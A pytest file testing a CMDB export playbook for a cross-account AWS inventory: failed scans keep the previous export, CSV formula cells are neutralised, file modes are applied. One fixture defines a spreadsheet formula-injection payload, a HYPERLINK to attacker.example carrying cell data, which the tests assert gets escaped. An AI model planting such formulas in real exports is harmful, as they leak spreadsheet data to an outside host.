"""The CMDB export is safe by default (issue 10 §6), through the real ansible-playbook CLI and the
crossaccount.aws.cmdb_export playbook, with the playbook's defaults:

* a run that scanned nothing successfully (every account failed with no cache: zero hosts and
  failures listed; or every host is stale data from the cache) writes nothing and fails: the
  previous export stays byte for byte;
* cmdb-errors.csv neutralises formula cells exactly as cmdb.csv does;
* ``mode`` is applied even when the content did not change.
"""

from __future__ import annotations

import csv
import json
import os

import pytest

from tests.support import cli
from tests.support.faults import Fault
from tests.support.fleet import ACCOUNTS

INVENTORY = """plugin: crossaccount.aws.ec2
role_name: CMDBDiscovery
accounts:
  - "111111111111"
  - id: "222222222222"
    name: "{evil_name}"
  - "333333333333"
  - "444444444444"
regions: [us-east-1, eu-west-1, ap-southeast-2]
{extra}"""
EVIL_NAME = ' =HYPERLINK(\\"http://attacker.example/?\\"&A1)'  # a renamed account, as YAML text
EVIL_NAME_VALUE = ' =HYPERLINK("http://attacker.example/?"&A1)'
FILES = ("cmdb.csv", "cmdb.json", "cmdb-errors.csv")


export = cli.export


def files_of(out_dir) -> dict[str, bytes]:
    return {name: (out_dir / name).read_bytes() for name in FILES}


def modes_of(out_dir) -> set[str]:
    return {oct(os.stat(out_dir / name).st_mode & 0o777) for name in FILES}


def deny_all() -> list[Fault]:
    return [Fault("AccessDenied", action="AssumeRole", account=a, status=403) for a in ACCOUNTS]


@pytest.fixture(scope="module")
def setup(stand_in, fleet, tmp_path_factory):
    base = tmp_path_factory.mktemp("cmdb-safety")
    out = base / "out"
    out.mkdir()
    cached = base / "cached.ec2.yml"
    cache = f"cache: true\ncache_plugin: ansible.builtin.jsonfile\ncache_connection: {base / 'cache'}\n"
    cached.write_text(INVENTORY.format(evil_name=EVIL_NAME, extra=cache))
    uncached = base / "uncached.ec2.yml"
    uncached.write_text(INVENTORY.format(evil_name=EVIL_NAME, extra=""))
    stand_in.faults.reset()
    good = export(str(cached), stand_in.endpoint, out, "--flush-cache")
    assert good.rc == 0, good.stdout + good.stderr
    return {"base": base, "out": out, "cached": str(cached), "uncached": str(uncached), "good": files_of(out)}


def test_the_good_export_is_there(setup, fleet):
    rows = list(csv.DictReader((setup["out"] / "cmdb.csv").open(newline="")))
    assert len(rows) == len(fleet) > 0


def test_every_account_failed_keeps_the_previous_export(setup, stand_in):
    """No cache: every AssumeRole is refused, the inventory has zero hosts and crossaccount_errors
    lists every account. With the defaults the export is not replaced and the run fails."""
    stand_in.faults.reset()
    stand_in.faults.set_faults(deny_all())
    try:
        result = export(setup["uncached"], stand_in.endpoint, setup["out"])
    finally:
        stand_in.faults.reset()
    assert result.rc != 0
    assert "nothing was scanned successfully: 4 account(s)/region(s) failed" in result.stdout
    assert "the previous export is left as it was" in result.stdout
    assert files_of(setup["out"]) == setup["good"]


def test_every_host_stale_keeps_the_previous_export(setup, stand_in, fleet):
    """Cache on: every account fails, every host comes back as stale data of the last scan.
    Nothing was scanned: the export is not rewritten with stale rows, and the run fails."""
    stand_in.faults.reset()
    stand_in.faults.set_faults(deny_all())
    try:
        result = export(setup["cached"], stand_in.endpoint, setup["out"], "--flush-cache")
    finally:
        stand_in.faults.reset()
    assert result.rc != 0
    assert "nothing was scanned successfully" in result.stdout
    assert f"({len(fleet)} stale instance(s) kept from earlier scans)" in result.stdout
    assert files_of(setup["out"]) == setup["good"]


def test_errors_csv_neutralises_formulas_like_the_instances_csv(setup, stand_in):
    """A member-account admin renamed the account to a formula, and the account fails: its cell in
    cmdb-errors.csv is neutralised, as its cells in cmdb.csv are; the JSON keeps the name."""
    out = setup["base"] / "formula"
    out.mkdir()
    stand_in.faults.reset()
    stand_in.faults.set_faults([Fault("AccessDenied", action="AssumeRole", account="222222222222", status=403)])
    try:
        result = export(setup["cached"], stand_in.endpoint, out, "--flush-cache")
    finally:
        stand_in.faults.reset()
    assert result.rc == 0, result.stdout + result.stderr
    (error,) = list(csv.DictReader((out / "cmdb-errors.csv").open(newline="")))
    assert error["account_id"] == "222222222222" and error["code"] == "AccessDenied"
    assert error["account_name"] == "'" + EVIL_NAME_VALUE
    instances = list(csv.DictReader((out / "cmdb.csv").open(newline="")))
    named = [r for r in instances if r["account_id"] == "222222222222"]
    assert named and all(r["account_name"] == "'" + EVIL_NAME_VALUE for r in named)
    assert all(r["stale"] == "true" for r in named)
    doc = json.loads((out / "cmdb.json").read_text())
    assert doc["errors"][0]["account_name"] == EVIL_NAME_VALUE


def test_mode_is_applied_when_the_content_did_not_change(setup, stand_in):
    """The inventory is served from the cache: the same bytes again. A new mode is applied anyway,
    and the task reports a change."""
    out = setup["base"] / "mode"
    out.mkdir()
    stand_in.faults.reset()
    first = export(setup["cached"], stand_in.endpoint, out, "--flush-cache")
    assert first.rc == 0, first.stdout + first.stderr
    before = files_of(out)
    assert modes_of(out) == {"0o644"}
    again = export(setup["cached"], stand_in.endpoint, out, "-e", "cmdb_export_mode=0600")
    assert again.rc == 0, again.stdout + again.stderr
    assert files_of(out) == before, "served from the cache: same content"
    assert modes_of(out) == {"0o600"}
    assert "changed=1" in again.stdout
    third = export(setup["cached"], stand_in.endpoint, out, "-e", "cmdb_export_mode=0600")
    assert third.rc == 0 and "changed=0" in third.stdout
